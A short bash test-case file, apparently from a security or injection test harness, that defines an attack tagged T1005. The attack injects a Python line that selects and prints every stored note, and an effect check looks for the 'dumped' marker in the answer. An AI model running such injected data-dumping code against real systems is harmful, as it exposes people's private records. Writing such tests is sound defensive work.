# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1005
about="all notes leave as an answer"
note="the page that lists them does the same"
attack() {
	inject '
print("dumped", notes().execute("select * from note").fetchall())
'
}
effect() { grep -q dumped "$state/answer"; }
